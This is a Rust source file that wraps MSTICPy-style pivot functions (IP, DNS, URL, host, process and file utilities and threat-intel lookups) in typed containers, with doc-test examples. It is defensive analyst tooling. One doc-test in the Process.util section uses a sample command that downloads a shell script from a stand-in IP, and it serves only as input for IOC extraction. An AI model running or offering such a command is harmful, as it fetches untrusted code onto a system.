//! Pivot containers as real types, so names complete in the kernel: `IpAddress::util().ip_type(…)`,
//! `Dns::ti().lookup_dns(…)`, `Host::pivots().container("LocalData")`, plus MSTICPy's shortcuts
//! directly on entity types (`IpAddress::whois(…)`, `IpAddress::tilookup_ip(…)`) and on entity
//! values (`ip.pivot("util.ip_type")`).

use crate::entity::*;
use crate::func::PivotFunc;
use crate::input::PivotInput;
use crate::registry::Pivots;
use mstic_core::display::escape_html;
use mstic_core::{Frame, MimeBundle, Result};

/// The pivots of one entity kind in a registry, by container (`util`, `ti`, query environments).
///
/// # Example
/// ```
/// use mstic_pivot::{Dns, Pivots};
/// let dns = Dns::pivots_in(&Pivots::new());
/// assert!(dns.containers().contains(&"util".to_string()));
/// let checked = dns.call("util.dns_validate_tld", "server.notarealtld")?;
/// assert_eq!(checked.column_strings("result")?, vec![Some("False".to_string())]);
/// # Ok::<(), mstic_core::Error>(())
/// ```
#[derive(Clone)]
pub struct EntityPivots {
    pivots: Pivots,
    kind: EntityKind,
}

impl EntityPivots {
    /// The pivots of `kind` in `pivots`.
    pub fn new(pivots: &Pivots, kind: EntityKind) -> Self {
        EntityPivots { pivots: pivots.clone(), kind }
    }

    /// Container names (`util`, `ti`, query environments…).
    pub fn containers(&self) -> Vec<String> {
        self.pivots.containers(self.kind)
    }

    /// One container by name.
    pub fn container(&self, name: &str) -> Container {
        Container { pivots: self.pivots.clone(), kind: self.kind, name: name.to_string() }
    }

    /// A function by `container.function` path or shortcut name.
    pub fn func(&self, path: &str) -> Result<PivotFunc> {
        self.pivots.get(self.kind.name(), path)
    }

    /// Calls a function by `container.function` path or shortcut name.
    pub fn call(&self, path: &str, input: impl Into<PivotInput>) -> Result<Frame> {
        self.func(path)?.call(input)
    }

    /// The entity's pivots as a table.
    pub fn list(&self) -> Result<Frame> {
        self.pivots.list(self.kind.name())
    }

    /// Shows the list of pivots as the cell's result.
    pub fn evcxr_display(&self) {
        if let Ok(frame) = self.list() {
            frame.evcxr_display();
        }
    }
}

/// One named container of pivot functions of one entity (e.g. `IpAddress.util`).
///
/// # Example
/// ```
/// use mstic_pivot::{EntityKind, EntityPivots, Pivots};
/// let util = EntityPivots::new(&Pivots::new(), EntityKind::Url).container("util");
/// assert!(util.names().contains(&"url_components".to_string()));
/// let parts = util.call("url_components", "https://contoso.com/login?next=home")?;
/// assert_eq!(parts.column_strings("path")?, vec![Some("/login".to_string())]);
/// # Ok::<(), mstic_core::Error>(())
/// ```
#[derive(Clone)]
pub struct Container {
    pivots: Pivots,
    kind: EntityKind,
    name: String,
}

impl Container {
    /// The function names in this container.
    pub fn names(&self) -> Vec<String> {
        self.pivots.functions(Some(self.kind)).into_iter().filter(|f| f.container == self.name).map(|f| f.name).collect()
    }

    /// A function by name.
    pub fn func(&self, name: &str) -> Result<PivotFunc> {
        self.pivots.get(self.kind.name(), &format!("{}.{name}", self.name))
    }

    /// Calls function `name` on a value, list, entity or `(&frame, "column")`.
    pub fn call(&self, name: &str, input: impl Into<PivotInput>) -> Result<Frame> {
        self.func(name)?.call(input)
    }

    /// Shows the container's functions as the cell's result.
    pub fn evcxr_display(&self) {
        let names = self.names();
        let title = format!("{}.{}", self.kind, self.name);
        let text = format!("{title}: {}", names.join(", "));
        let html = format!(
            "<b>{}</b><ul>{}</ul>",
            escape_html(&title),
            names.iter().map(|n| format!("<li><code>{}</code></li>", escape_html(n))).collect::<String>()
        );
        MimeBundle::new().with_text("text/html", html).with_text("text/plain", text).emit_as_result();
    }
}

macro_rules! typed_container {
    ($(#[$doc:meta])* $name:ident, $container:literal, [$($func:ident),*]) => {
        $(#[$doc])*
        #[derive(Clone)]
        pub struct $name(pub Container);

        impl $name {
            $(
                #[doc = concat!("Calls `", $container, ".", stringify!($func), "` on a value, list, entity or `(&frame, \"column\")`.")]
                pub fn $func(&self, input: impl Into<PivotInput>) -> Result<Frame> {
                    self.0.call(stringify!($func), input)
                }
            )*
        }

        impl std::ops::Deref for $name {
            type Target = Container;
            fn deref(&self) -> &Container {
                &self.0
            }
        }
    };
}

typed_container!(
    /// `IpAddress.util`: the IP address utilities (`ip_type`, `whois`, `geoloc`…) as methods.
    ///
    /// # Example
    /// ```
    /// use mstic_pivot::{IpAddress, Pivots};
    /// let util = IpAddress::util_in(&Pivots::new());
    /// let types = util.ip_type(vec!["10.0.0.1", "8.8.8.8"])?;
    /// assert_eq!(types.column_strings("result")?, vec![Some("Private".to_string()), Some("Public".to_string())]);
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    IpAddressUtil, "util", [whois, whois_asn, ip_type, geoloc, geoloc_ips, ip_rev_resolve]);
typed_container!(
    /// `IpAddress.ti`: threat-intelligence lookup of IP addresses, once a [`mstic_context::TiLookup`]
    /// is added with [`Pivots::add_ti`].
    ///
    /// # Example
    /// ```
    /// use mstic_context::TiLookup;
    /// use mstic_pivot::{IpAddress, Pivots};
    /// let pivots = Pivots::new();
    /// assert!(IpAddress::ti_in(&pivots).names().is_empty());
    /// pivots.add_ti(TiLookup::new());
    /// assert_eq!(IpAddress::ti_in(&pivots).names(), vec!["lookup_ip"]);
    /// // No TI provider is configured here, so the lookup fails without going to the network.
    /// assert!(IpAddress::ti_in(&pivots).lookup_ip("1.1.1.1").is_err());
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    IpAddressTi, "ti", [lookup_ip]);
typed_container!(
    /// `Dns.util`: domain name utilities (`dns_components`, `dns_resolve`…) as methods.
    ///
    /// # Example
    /// ```
    /// use mstic_pivot::{Dns, Pivots};
    /// let parts = Dns::util_in(&Pivots::new()).dns_components("www.contoso.com")?;
    /// assert_eq!(parts.column_strings("registered_domain")?, vec![Some("contoso.com".to_string())]);
    /// assert_eq!(parts.column_strings("subdomain")?, vec![Some("www".to_string())]);
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    DnsUtil, "util", [dns_components, dns_resolve, dns_is_resolvable, dns_validate_tld]);
typed_container!(
    /// `Dns.ti`: threat-intelligence lookup of domain names, once a TI lookup is added.
    ///
    /// # Example
    /// ```
    /// use mstic_context::TiLookup;
    /// use mstic_pivot::{Dns, Pivots};
    /// let pivots = Pivots::new();
    /// pivots.add_ti(TiLookup::new());
    /// let lookup = Dns::ti_in(&pivots).func("lookup_dns")?;
    /// assert_eq!((lookup.attribute.as_str(), lookup.out_key.as_str()), ("DomainName", "Ioc"));
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    DnsTi, "ti", [lookup_dns]);
typed_container!(
    /// `Url.util`: URL utilities (`url_components`, `dns_components`, `extract_iocs`…) as methods.
    ///
    /// # Example
    /// ```
    /// use mstic_pivot::{Pivots, Url};
    /// let parts = Url::util_in(&Pivots::new()).url_components("https://www.contoso.com/login?next=home")?;
    /// assert_eq!(parts.column_strings("host")?, vec![Some("www.contoso.com".to_string())]);
    /// assert_eq!(parts.column_strings("query")?, vec![Some("next=home".to_string())]);
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    UrlUtil, "util", [dns_components, url_components, b64decode, extract_iocs, dns_resolve, dns_is_resolvable, dns_validate_tld]);
typed_container!(
    /// `Url.ti`: threat-intelligence lookup of URLs, once a TI lookup is added (shortcut
    /// `tilookup_url`).
    ///
    /// # Example
    /// ```
    /// use mstic_context::TiLookup;
    /// use mstic_pivot::{Pivots, Url};
    /// let pivots = Pivots::new();
    /// pivots.add_ti(TiLookup::new());
    /// assert_eq!(Url::ti_in(&pivots).names(), vec!["lookup_url"]);
    /// assert_eq!(Url::pivots_in(&pivots).func("tilookup_url")?.full_name(), "Url.ti.lookup_url");
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    UrlTi, "ti", [lookup_url]);
typed_container!(
    /// `Host.util`: host name utilities (`dns_components`, `dns_resolve`…), called with the host's
    /// FQDN.
    ///
    /// # Example
    /// ```
    /// use mstic_pivot::{Host, Pivots};
    /// let checked = Host::util_in(&Pivots::new()).dns_validate_tld(Host::new("ws1.contoso.com"))?;
    /// assert_eq!(checked.column_strings("result")?, vec![Some("True".to_string())]);
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    HostUtil, "util", [dns_components, dns_resolve, dns_is_resolvable, dns_validate_tld]);
typed_container!(
    /// `Process.util`: command-line utilities (`b64decode`, `extract_iocs`) as methods.
    ///
    /// # Example
    /// ```
    /// use mstic_pivot::{Pivots, Process};
    /// let iocs = Process::util_in(&Pivots::new()).extract_iocs(Process::new("curl -O http://198.51.100.7/a.sh"))?;
    /// assert!(iocs.column_strings("Observable")?.contains(&Some("198.51.100.7".to_string())));
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    ProcessUtil, "util", [b64decode, extract_iocs]);
typed_container!(
    /// `File.ti`: threat-intelligence lookup of file hashes, once a TI lookup is added.
    ///
    /// # Example
    /// ```
    /// use mstic_context::TiLookup;
    /// use mstic_pivot::{File, Pivots};
    /// let pivots = Pivots::new();
    /// pivots.add_ti(TiLookup::new());
    /// let lookup = File::ti_in(&pivots).func("lookup_file_hash")?;
    /// assert_eq!(lookup.attribute, "file_hash"); // a File entity gives its best hash
    /// # Ok::<(), mstic_core::Error>(())
    /// ```
    FileTi, "ti", [lookup_file_hash]);

macro_rules! entity_pivots {
    ($entity:ident { $($container:ident / $container_in:ident : $ctype:ident = $cname:literal),* } shortcuts [$($short:ident => $path:literal),*]) => {
        impl $entity {
            /// This entity's pivots in the current registry.
            pub fn pivots() -> EntityPivots {
                EntityPivots::new(&Pivots::current(), EntityKind::$entity)
            }

            /// This entity's pivots in `pivots`.
            pub fn pivots_in(pivots: &Pivots) -> EntityPivots {
                EntityPivots::new(pivots, EntityKind::$entity)
            }

            /// Runs pivot `path` (`container.function` or shortcut) on this entity.
            pub fn pivot(&self, path: &str) -> Result<Frame> {
                $entity::pivots().call(path, &self.0)
            }

            $(
                #[doc = concat!("The `", $cname, "` container in the current registry.")]
                pub fn $container() -> $ctype {
                    $ctype(EntityPivots::new(&Pivots::current(), EntityKind::$entity).container($cname))
                }

                #[doc = concat!("The `", $cname, "` container in `pivots`.")]
                pub fn $container_in(pivots: &Pivots) -> $ctype {
                    $ctype(EntityPivots::new(pivots, EntityKind::$entity).container($cname))
                }
            )*
            $(
                #[doc = concat!("Shortcut for `", $path, "`.")]
                pub fn $short(input: impl Into<PivotInput>) -> Result<Frame> {
                    $entity::pivots().call($path, input)
                }
            )*
        }
    };
}

entity_pivots!(IpAddress { util / util_in: IpAddressUtil = "util", ti / ti_in: IpAddressTi = "ti" }
    shortcuts [whois => "util.whois", ip_type => "util.ip_type", geoloc => "util.geoloc", tilookup_ip => "ti.lookup_ip"]);
entity_pivots!(Dns { util / util_in: DnsUtil = "util", ti / ti_in: DnsTi = "ti" }
    shortcuts [dns_resolve => "util.dns_resolve", tilookup_dns => "ti.lookup_dns"]);
entity_pivots!(Url { util / util_in: UrlUtil = "util", ti / ti_in: UrlTi = "ti" }
    shortcuts [tilookup_url => "ti.lookup_url"]);
entity_pivots!(Host { util / util_in: HostUtil = "util" } shortcuts [dns_resolve => "util.dns_resolve"]);
entity_pivots!(Process { util / util_in: ProcessUtil = "util" } shortcuts []);
entity_pivots!(File { ti / ti_in: FileTi = "ti" } shortcuts [tilookup_file_hash => "ti.lookup_file_hash"]);
entity_pivots!(Account {} shortcuts []);
entity_pivots!(AzureResource {} shortcuts []);
entity_pivots!(HostLogonSession {} shortcuts []);
entity_pivots!(Alert {} shortcuts []);
entity_pivots!(GeoLocation {} shortcuts []);
entity_pivots!(FileHash {} shortcuts []);
